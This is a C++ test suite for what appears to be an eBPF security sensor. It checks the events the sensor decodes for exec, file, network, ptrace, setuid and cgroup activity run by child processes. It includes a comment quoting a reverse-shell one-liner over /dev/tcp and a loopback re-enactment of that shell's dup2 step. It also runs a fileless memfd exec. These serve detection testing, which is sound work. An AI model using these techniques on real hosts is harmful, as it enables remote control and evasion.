// Real sensor tests: load the BPF programs into this kernel, make real
// syscalls from child processes, and assert on the exact decoded events.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <climits>
#include <cstring>
#include <functional>
#include <optional>
#include <vector>

#include <gtest/gtest.h>

#include "event/decoder.h"
#include "event/syscalls.h"
#include "loader/sensor.h"
#include "proc/cgroup_hierarchy.h"
#include "proc/proc_snapshot.h"
#include "proc/process_cache.h"

namespace palisade {
namespace {

// Runs `body` in a forked child and returns its pid once it has exited.
// The child is a separate process, so the sensor (which ignores this test
// process) sees what it does.
pid_t run_child(const std::function<int()>& body, int* status = nullptr)
{
    pid_t pid = fork();
    if (pid == 0)
        _exit(body());
    int st = 0;
    waitpid(pid, &st, 0);
    if (status)
        *status = st;
    return pid;
}

std::string readlink_str(const char* path)
{
    char buf[PATH_MAX] = {};
    ssize_t n = readlink(path, buf, sizeof(buf) - 1);
    return n > 0 ? std::string(buf, n) : std::string();
}

std::string canonical(const char* path)
{
    char buf[PATH_MAX] = {};
    return realpath(path, buf) ? buf : "";
}

class SensorTest : public ::testing::Test {
protected:
    static void SetUpTestSuite()
    {
        SensorOptions options;
        std::string error;
        ASSERT_TRUE(parse_event_groups("all", &options.groups, &error)) << error;
        options.exclude_tgid = getpid();
        options.cgroup_hierarchy = hierarchy().id;
        sensor_ = Sensor::start(options, &error).release();
        ASSERT_NE(sensor_, nullptr) << error;
        cache_ = new ProcessCache();
        for (const auto& record : snapshot_processes("/proc", hierarchy()))
            ingest(record);
    }
    static void TearDownTestSuite()
    {
        delete sensor_;
        delete cache_;
        sensor_ = nullptr;
    }
    void SetUp() override { ASSERT_NE(sensor_, nullptr) << "the sensor did not start"; }

    static const CgroupHierarchy& hierarchy()
    {
        static const CgroupHierarchy chosen = choose_cgroup_hierarchy();
        return chosen;
    }

    static void ingest(std::span<const std::uint8_t> record)
    {
        DecodeError err;
        auto ev = decode_record(record, &err);
        ASSERT_TRUE(ev.has_value()) << err.message;
        cache_->apply(*ev);
        seen_.push_back(*ev);
        // Keep the lineage of exited test processes for assertions: settle
        // only what is not ours to inspect.
        cache_->settle(*ev);
    }

    // Polls until an event matching `pred` arrives (or was seen already).
    static std::optional<Event> wait_for(const std::function<bool(const Event&)>& pred, int timeout_ms = 5000)
    {
        const auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(timeout_ms);
        std::size_t checked = 0;
        while (true) {
            for (; checked < seen_.size(); ++checked)
                if (pred(seen_[checked]))
                    return seen_[checked];
            if (std::chrono::steady_clock::now() > deadline)
                return std::nullopt;
            sensor_->poll(50, [](std::span<const std::uint8_t> r) { ingest(r); });
        }
    }

    template <class T>
    static std::optional<T> wait_data(pid_t pid, const std::function<bool(const T&)>& pred = nullptr)
    {
        auto ev = wait_for([&](const Event& e) {
            const T* d = std::get_if<T>(&e.data);
            return d && e.tgid == static_cast<std::uint32_t>(pid) && !e.snapshot() && (!pred || pred(*d));
        });
        if (!ev)
            return std::nullopt;
        return std::get<T>(ev->data);
    }

    static inline Sensor* sensor_ = nullptr;
    static inline ProcessCache* cache_ = nullptr;
    static inline std::vector<Event> seen_;
};

TEST_F(SensorTest, ShellRunningTrueGivesExecForkExitWithLineage)
{
    int status = 0;
    const pid_t sh = run_child([] {
        execl("/bin/sh", "sh", "-c", "/bin/true; exit 3", (char*)nullptr);
        return 127;
    }, &status);
    ASSERT_EQ(WEXITSTATUS(status), 3);

    auto sh_exec = wait_data<ExecData>(sh);
    ASSERT_TRUE(sh_exec);
    EXPECT_EQ(sh_exec->filename, "/bin/sh");
    EXPECT_EQ(sh_exec->path, canonical("/bin/sh"));  // resolved through the symlinks
    EXPECT_EQ(sh_exec->argv, (std::vector<std::string>{"sh", "-c", "/bin/true; exit 3"}));
    EXPECT_EQ(sh_exec->ppid, static_cast<std::uint32_t>(getpid()));
    EXPECT_EQ(sh_exec->cwd, canonical("."));
    EXPECT_EQ(sh_exec->creds.uid, getuid());
    EXPECT_EQ(sh_exec->ns.mnt, std::stoul(readlink_str("/proc/self/ns/mnt").substr(5)));
    EXPECT_EQ(sh_exec->ns.pid, std::stoul(readlink_str("/proc/self/ns/pid").substr(5)));

    // The shell forks, and the child execs /bin/true.
    auto fork = wait_for([&](const Event& e) {
        auto* d = std::get_if<ForkData>(&e.data);
        return d && d->parent_tgid == static_cast<std::uint32_t>(sh) && !d->thread;
    });
    ASSERT_TRUE(fork);
    const pid_t true_pid = fork->tgid;
    EXPECT_EQ(fork->as<ForkData>().parent_exec_id, sh_exec->exec_id);

    auto true_exec = wait_data<ExecData>(true_pid);
    ASSERT_TRUE(true_exec);
    EXPECT_EQ(true_exec->path, canonical("/bin/true"));
    EXPECT_EQ(true_exec->argv, (std::vector<std::string>{"/bin/true"}));
    EXPECT_EQ(true_exec->parent_exec_id, sh_exec->exec_id);
    EXPECT_EQ(true_exec->ppid, static_cast<std::uint32_t>(sh));
    EXPECT_NE(true_exec->exec_id, fork->as<ForkData>().exec_id) << "exec gives a new image id";

    auto sh_exit = wait_data<ExitData>(sh);
    ASSERT_TRUE(sh_exit);
    EXPECT_EQ(sh_exit->code(), 3);
    EXPECT_EQ(sh_exit->signal(), 0);
    EXPECT_EQ(sh_exit->exec_id, sh_exec->exec_id);

    // The shell's parent is this test process, whose image came from the
    // /proc snapshot: the kernel's fallback id must name the same image.
    const Process* self = cache_->find_pid(getpid());
    ASSERT_NE(self, nullptr);
    EXPECT_EQ(sh_exec->parent_exec_id, self->exec_id);
}

TEST_F(SensorTest, ExitBySignalIsReported)
{
    const pid_t pid = run_child([] {
        raise(SIGKILL);
        return 0;
    });
    auto exit = wait_data<ExitData>(pid);
    ASSERT_TRUE(exit);
    EXPECT_EQ(exit->signal(), SIGKILL);
}

TEST_F(SensorTest, RelativeOpenIsResolvedAgainstCwdAndDirfd)
{
    char dir[] = "/tmp/palisade-open-XXXXXX";
    ASSERT_NE(mkdtemp(dir), nullptr);
    const std::string base = canonical(dir);
    const pid_t pid = run_child([&] {
        if (chdir(dir) != 0)
            return 1;
        int fd = openat(AT_FDCWD, "created.txt", O_WRONLY | O_CREAT, 0640);
        if (fd < 0)
            return 2;
        close(fd);
        int dfd = open(dir, O_RDONLY | O_DIRECTORY);
        fd = openat(dfd, "./sub/../created.txt", O_RDONLY);
        close(fd);
        open("/nonexistent/palisade", O_RDONLY);
        return 0;
    });
    auto created = wait_data<OpenData>(pid, [](const OpenData& d) { return d.raw_path == "created.txt"; });
    ASSERT_TRUE(created);
    EXPECT_EQ(created->path, base + "/created.txt");
    EXPECT_EQ(created->flags & (O_WRONLY | O_CREAT), unsigned(O_WRONLY | O_CREAT));
    EXPECT_EQ(created->mode, 0640u);
    EXPECT_GE(created->ret, 0);
    EXPECT_EQ(syscall_name(created->syscall_nr), "openat");

    auto via_dirfd = wait_data<OpenData>(pid, [](const OpenData& d) { return d.raw_path == "./sub/../created.txt"; });
    ASSERT_TRUE(via_dirfd);
    EXPECT_EQ(via_dirfd->path, base + "/created.txt");

    auto missing = wait_data<OpenData>(pid, [](const OpenData& d) { return d.raw_path == "/nonexistent/palisade"; });
    ASSERT_TRUE(missing);
    EXPECT_EQ(missing->ret, -ENOENT);
    unlink((base + "/created.txt").c_str());
    rmdir(dir);
}

TEST_F(SensorTest, FileChangesCarryBothPaths)
{
    char dir[] = "/tmp/palisade-file-XXXXXX";
    ASSERT_NE(mkdtemp(dir), nullptr);
    const std::string base = canonical(dir);
    const pid_t pid = run_child([&] {
        if (chdir(dir) != 0)
            return 1;
        close(open("a", O_CREAT | O_WRONLY, 0600));
        rename("a", "b");
        chmod("b", 0700);
        symlink("/etc/passwd", "link");
        mkdir("d", 0750);
        unlink("b");
        return 0;
    });
    auto renamed = wait_data<FileOpData>(pid, [](const FileOpData& d) { return syscall_name(d.syscall_nr) == "rename"; });
    ASSERT_TRUE(renamed);
    EXPECT_EQ(renamed->path, base + "/a");
    EXPECT_EQ(renamed->path2, base + "/b");
    EXPECT_EQ(renamed->ret, 0);
    auto chmodded = wait_data<FileOpData>(pid, [](const FileOpData& d) { return syscall_name(d.syscall_nr) == "chmod"; });
    ASSERT_TRUE(chmodded);
    EXPECT_EQ(chmodded->mode, 0700u);
    auto linked = wait_data<FileOpData>(pid, [](const FileOpData& d) { return syscall_name(d.syscall_nr) == "symlink"; });
    ASSERT_TRUE(linked);
    EXPECT_EQ(linked->path, "/etc/passwd");
    EXPECT_EQ(linked->path2, base + "/link");
    auto made = wait_data<FileOpData>(pid, [](const FileOpData& d) { return syscall_name(d.syscall_nr) == "mkdir"; });
    ASSERT_TRUE(made);
    EXPECT_EQ(made->path, base + "/d");
    EXPECT_EQ(made->mode, 0750u);
    auto removed = wait_data<FileOpData>(pid, [](const FileOpData& d) { return syscall_name(d.syscall_nr) == "unlink"; });
    ASSERT_TRUE(removed);
    EXPECT_EQ(removed->path, base + "/b");
    std::system(("rm -rf " + base).c_str());
}

TEST_F(SensorTest, LoopbackListenConnectAcceptCarryAddressesAndPorts)
{
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ASSERT_EQ(bind(listener, (sockaddr*)&addr, sizeof(addr)), 0);
    socklen_t len = sizeof(addr);
    getsockname(listener, (sockaddr*)&addr, &len);
    close(listener);
    const std::uint16_t port = ntohs(addr.sin_port);

    const pid_t pid = run_child([&] {
        int l = socket(AF_INET, SOCK_STREAM, 0);
        int one = 1;
        setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        if (bind(l, (sockaddr*)&addr, sizeof(addr)) != 0 || listen(l, 7) != 0)
            return 1;
        int c = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(c, (sockaddr*)&addr, sizeof(addr)) != 0)
            return 2;
        int a = accept(l, nullptr, nullptr);
        return a >= 0 ? 0 : 3;
    });
    auto listening = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_LISTEN; });
    ASSERT_TRUE(listening);
    EXPECT_EQ(listening->local_addr, "127.0.0.1");
    EXPECT_EQ(listening->local_port, port);
    EXPECT_EQ(listening->backlog, 7u);

    auto bound = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_BIND; });
    ASSERT_TRUE(bound);
    EXPECT_EQ(bound->local_port, port);
    EXPECT_EQ(bound->ret, 0);

    auto connected = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_CONNECT; });
    ASSERT_TRUE(connected);
    EXPECT_EQ(connected->family, AF_INET);
    EXPECT_EQ(connected->sock_type, SOCK_STREAM);
    EXPECT_EQ(connected->protocol, IPPROTO_TCP);
    EXPECT_EQ(connected->remote_addr, "127.0.0.1");
    EXPECT_EQ(connected->remote_port, port);
    EXPECT_EQ(connected->local_addr, "127.0.0.1");
    EXPECT_NE(connected->local_port, 0);
    EXPECT_EQ(connected->ret, 0);

    auto accepted = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_ACCEPT; });
    ASSERT_TRUE(accepted);
    EXPECT_EQ(accepted->local_port, port);
    EXPECT_EQ(accepted->remote_port, connected->local_port);
    EXPECT_GE(accepted->ret, 0);
}

TEST_F(SensorTest, UdpSendtoAndUnixConnectNameTheirDestination)
{
    const pid_t pid = run_child([] {
        int u = socket(AF_INET, SOCK_DGRAM, 0);
        sockaddr_in dns{};
        dns.sin_family = AF_INET;
        dns.sin_port = htons(53);
        inet_pton(AF_INET, "127.0.0.53", &dns.sin_addr);
        sendto(u, "q", 1, 0, (sockaddr*)&dns, sizeof(dns));
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        sockaddr_un un{};
        un.sun_family = AF_UNIX;
        std::strcpy(un.sun_path, "/tmp/palisade-no-such.sock");
        connect(s, (sockaddr*)&un, sizeof(un));
        return 0;
    });
    auto sent = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_SENDTO; });
    ASSERT_TRUE(sent);
    EXPECT_EQ(sent->remote_addr, "127.0.0.53");
    EXPECT_EQ(sent->remote_port, 53);
    EXPECT_EQ(sent->sock_type, SOCK_DGRAM);
    auto unix_connect =
        wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_CONNECT && d.family == AF_UNIX; });
    ASSERT_TRUE(unix_connect);
    EXPECT_EQ(unix_connect->unix_path, "/tmp/palisade-no-such.sock");
    EXPECT_EQ(unix_connect->ret, -ENOENT);
}

TEST_F(SensorTest, Dup2OfASocketOntoStdoutNamesTheSocket)
{
    // What `sh -i >& /dev/tcp/HOST/PORT 0>&1` does: a TCP socket dup2'ed onto 0, 1 and 2.
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ASSERT_EQ(bind(listener, (sockaddr*)&addr, sizeof(addr)), 0);
    ASSERT_EQ(listen(listener, 1), 0);
    socklen_t len = sizeof(addr);
    getsockname(listener, (sockaddr*)&addr, &len);
    const pid_t pid = run_child([&] {
        int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (connect(s, (sockaddr*)&addr, sizeof(addr)) != 0)
            return 1;
        int devnull = open("/dev/null", O_RDONLY);
        dup2(devnull, 0);  // not a socket
        dup2(s, 1);
        return 0;
    });
    close(listener);
    auto created = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_SOCKET; });
    ASSERT_TRUE(created);
    EXPECT_EQ(created->family, AF_INET);
    EXPECT_EQ(created->sock_type, SOCK_STREAM) << "SOCK_CLOEXEC is not part of the type";
    EXPECT_GE(created->ret, 3);

    auto onto_stdout = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_DUP && d.ret == 1; });
    ASSERT_TRUE(onto_stdout);
    EXPECT_EQ(onto_stdout->fd, created->ret);
    EXPECT_EQ(onto_stdout->family, AF_INET);
    EXPECT_EQ(onto_stdout->remote_addr, "127.0.0.1");
    EXPECT_EQ(onto_stdout->remote_port, ntohs(addr.sin_port));
    EXPECT_EQ(syscall_name(onto_stdout->syscall_nr), "dup2");

    auto onto_stdin = wait_data<NetData>(pid, [](const NetData& d) { return d.op == PL_NET_DUP && d.ret == 0; });
    ASSERT_TRUE(onto_stdin);
    EXPECT_EQ(onto_stdin->family, 0) << "/dev/null is not a socket";
}

TEST_F(SensorTest, ExecFromMemfdIsFlaggedFileless)
{
    const pid_t pid = run_child([] {
        int fd = memfd_create("palisade-test", MFD_CLOEXEC);
        int bin = open("/bin/true", O_RDONLY);
        char buf[65536];
        ssize_t n;
        while ((n = read(bin, buf, sizeof(buf))) > 0)
            write(fd, buf, n);
        char* const argv[] = {(char*)"fileless", nullptr};
        char* const envp[] = {nullptr};
        syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
        return 126;
    });
    auto created = wait_data<FileOpData>(pid, [](const FileOpData& d) {
        return syscall_name(d.syscall_nr) == "memfd_create";
    });
    ASSERT_TRUE(created);
    EXPECT_EQ(created->path2, "palisade-test");
    EXPECT_EQ(created->flags, unsigned(MFD_CLOEXEC));
    EXPECT_GE(created->ret, 0);

    auto exec = wait_data<ExecData>(pid);
    ASSERT_TRUE(exec);
    EXPECT_TRUE(exec->flags & PL_EXEC_MEMFD);
    EXPECT_TRUE(exec->flags & PL_EXEC_DELETED);
    EXPECT_EQ(exec->path, "/memfd:palisade-test");
    EXPECT_EQ(exec->argv, (std::vector<std::string>{"fileless"}));
}

TEST_F(SensorTest, PtraceAndSetuidAreReportedWithArguments)
{
    const pid_t pid = run_child([] {
        pid_t target = fork();
        if (target == 0) {
            pause();
            _exit(0);
        }
        long attached = ptrace(PTRACE_ATTACH, target, nullptr, nullptr);
        if (attached == 0) {
            waitpid(target, nullptr, 0);
            ptrace(PTRACE_DETACH, target, nullptr, nullptr);
        }
        kill(target, SIGKILL);
        waitpid(target, nullptr, 0);
        if (setgid(65534) != 0 || setuid(65534) != 0)
            return 1;
        execl("/bin/true", "true", (char*)nullptr);
        return 127;
    });
    auto traced = wait_data<SyscallData>(pid, [](const SyscallData& d) {
        return syscall_name(d.syscall_nr) == "ptrace" && d.args[0] == PTRACE_ATTACH;
    });
    ASSERT_TRUE(traced);
    EXPECT_EQ(traced->ret, 0);
    EXPECT_NE(traced->args[1], 0u);

    auto killed = wait_data<SyscallData>(pid, [](const SyscallData& d) { return syscall_name(d.syscall_nr) == "kill"; });
    ASSERT_TRUE(killed);
    EXPECT_EQ(killed->args[0], traced->args[1]) << "kill names the traced child";
    EXPECT_EQ(killed->args[1], unsigned(SIGKILL));

    auto setuid_ev = wait_data<SyscallData>(pid, [](const SyscallData& d) { return syscall_name(d.syscall_nr) == "setuid"; });
    ASSERT_TRUE(setuid_ev);
    EXPECT_EQ(setuid_ev->args[0], 65534u);
    EXPECT_EQ(setuid_ev->ret, 0);
    EXPECT_EQ(setuid_ev->aux, (65534ull << 32) | 65534ull) << "euid and uid after the call";

    auto exec = wait_data<ExecData>(pid);
    ASSERT_TRUE(exec);
    EXPECT_EQ(exec->creds.uid, 65534u);
    EXPECT_EQ(exec->creds.gid, 65534u);
}

TEST_F(SensorTest, OwnActivityIsNotReported)
{
    const std::string marker = "/tmp/palisade-self-" + std::to_string(getpid());
    close(open(marker.c_str(), O_CREAT | O_WRONLY, 0600));
    // A child's open after ours: once it is seen, ours would have been too.
    const pid_t pid = run_child([&] { return open(marker.c_str(), O_RDONLY) >= 0 ? 0 : 1; });
    ASSERT_TRUE(wait_data<OpenData>(pid, [&](const OpenData& d) { return d.path == marker; }));
    for (const auto& ev : seen_) {
        if (!ev.snapshot())
            EXPECT_NE(ev.tgid, static_cast<std::uint32_t>(getpid())) << "the excluded process leaked an event";
    }
    unlink(marker.c_str());
}

// Where `hierarchy` is mounted, from /proc/self/mountinfo; empty if nowhere.
std::string hierarchy_mount(const CgroupHierarchy& hierarchy)
{
    std::ifstream in("/proc/self/mountinfo");
    for (std::string line; std::getline(in, line);) {
        std::istringstream fields(line);
        std::vector<std::string> f;
        for (std::string word; fields >> word;)
            f.push_back(word);
        const auto dash = std::find(f.begin(), f.end(), "-");
        if (f.size() < 5 || dash == f.end() || dash + 1 == f.end())
            continue;
        const std::string& fstype = dash[1];
        const std::string options = "," + (dash + 3 < f.end() ? dash[3] : "") + ",";
        if (hierarchy.controller.empty() ? fstype == "cgroup2"
                                         : fstype == "cgroup" && options.find("," + hierarchy.controller + ",") !=
                                                                     std::string::npos)
            return f[4];
    }
    return {};
}

// A process moved into a cgroup of ours and then exec'ing is reported with
// that cgroup's path, and the /proc snapshot reads the same path for it.
TEST_F(SensorTest, ExecCarriesTheCgroupPathAndTheSnapshotAgrees)
{
    const std::string mount = hierarchy_mount(hierarchy());
    ASSERT_FALSE(mount.empty()) << "no mount for the chosen cgroup hierarchy";
    const std::string top = "/palisade-test-" + std::to_string(getpid());
    std::string deep = top;
    for (int level = 0; level < PL_CGROUP_DEPTH + 1; ++level)
        deep += "/l" + std::to_string(level);
    std::filesystem::create_directories(mount + deep);
    auto in_cgroup = [&](const std::string& cgroup, const char* program, const char* arg) {
        pid_t pid = fork();
        if (pid == 0) {
            std::ofstream(mount + cgroup + "/cgroup.procs") << getpid() << std::flush;
            execl(program, program, arg, (char*)nullptr);
            _exit(127);
        }
        return pid;
    };

    const std::string shallow = top + "/l0";
    const pid_t sleeper = in_cgroup(shallow, "/bin/sleep", "10");
    auto exec = wait_data<ExecData>(sleeper);
    ASSERT_TRUE(exec);
    EXPECT_EQ(exec->cgroup, shallow);
    EXPECT_FALSE(exec->flags & PL_EXEC_CGROUP_TRUNCATED);
    bool snapshot_seen = false;
    for (const auto& record : snapshot_processes("/proc", hierarchy())) {
        auto ev = decode_record(record);
        if (ev && ev->tgid == static_cast<std::uint32_t>(sleeper)) {
            snapshot_seen = true;
            EXPECT_EQ(ev->as<ExecData>().cgroup, exec->cgroup);
        }
    }
    EXPECT_TRUE(snapshot_seen);
    kill(sleeper, SIGKILL);
    waitpid(sleeper, nullptr, 0);

    // Deeper than the kernel walks: the levels nearest the root go, the leaf stays.
    const pid_t deep_pid = in_cgroup(deep, "/bin/true", nullptr);
    waitpid(deep_pid, nullptr, 0);
    auto deep_exec = wait_data<ExecData>(deep_pid);
    ASSERT_TRUE(deep_exec);
    EXPECT_TRUE(deep_exec->flags & PL_EXEC_CGROUP_TRUNCATED);
    EXPECT_TRUE(deep_exec->cgroup.ends_with("/l1/l2/l3/l4/l5/l6/l7/l8/l9/l10/l11/l12")) << deep_exec->cgroup;
    EXPECT_FALSE(deep_exec->cgroup.starts_with(top)) << deep_exec->cgroup;

    for (std::string dir = deep; dir.size() >= top.size(); dir = dir.substr(0, dir.rfind('/')))
        rmdir((mount + dir).c_str());
}

// A ring buffer that nobody drains fills up: every record that did not fit
// must be counted as dropped, none lost silently.
TEST(SensorDrops, FullRingBufferCountsEveryDrop)
{
    SensorOptions options;
    options.groups = {"open"};
    options.ringbuf_bytes = 1u << 16;
    options.exclude_tgid = getpid();
    std::string error;
    auto sensor = Sensor::start(options, &error);
    ASSERT_NE(sensor, nullptr) << error;
    constexpr int kOpens = 20000;
    const std::string path = "/tmp/palisade-drop-test";
    close(open(path.c_str(), O_CREAT | O_WRONLY, 0600));
    run_child([&] {
        for (int i = 0; i < kOpens; ++i)
            close(open(path.c_str(), O_RDONLY));
        return 0;
    });
    const auto before_drain = sensor->stats();
    std::uint64_t delivered = 0;
    while (sensor->poll(0, [&](std::span<const std::uint8_t>) { ++delivered; }) > 0) {
    }
    EXPECT_GT(before_drain.dropped[PL_EV_OPEN], 0u);
    EXPECT_GE(before_drain.emitted[PL_EV_OPEN] + before_drain.dropped[PL_EV_OPEN], std::uint64_t(kOpens));
    EXPECT_EQ(delivered, before_drain.emitted_total()) << "everything counted as emitted was delivered";
    unlink(path.c_str());
}

}  // namespace
}  // namespace palisade
